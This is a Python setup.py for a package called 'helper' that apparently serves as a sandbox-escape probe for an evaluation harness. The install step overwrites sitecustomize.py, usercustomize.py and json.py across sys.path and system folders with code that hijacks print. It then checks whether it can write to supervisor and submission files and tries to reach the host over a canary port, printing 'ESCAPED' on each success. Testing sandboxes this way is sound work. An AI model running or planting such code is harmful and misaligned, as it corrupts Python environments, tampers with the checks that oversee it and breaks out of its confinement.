import os
import socket
import sys

from setuptools import setup

PLANTED = "import builtins\nreal = builtins.print\nbuiltins.print = lambda *words, **options: real('GO', *words, **options)\n"
for folder in (*sys.path, "/opt/venv/lib/python3.11/site-packages", "/usr/lib/python3.11", "/opt/supervisor", "/submission"):
    for name in ("sitecustomize.py", "usercustomize.py", "json.py"):
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(PLANTED)
        except OSError:
            pass
for path in ("/opt/supervisor/main.py", "/submission/sales_analyzer.py"):
    try:
        open(path, "a").close()
        print("ESCAPED: may write", path)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", @CANARY_PORT@), timeout=0.5).close()
    print("ESCAPED: reached the host")
except OSError:
    pass
setup(name="helper", version="1.0", py_modules=[])
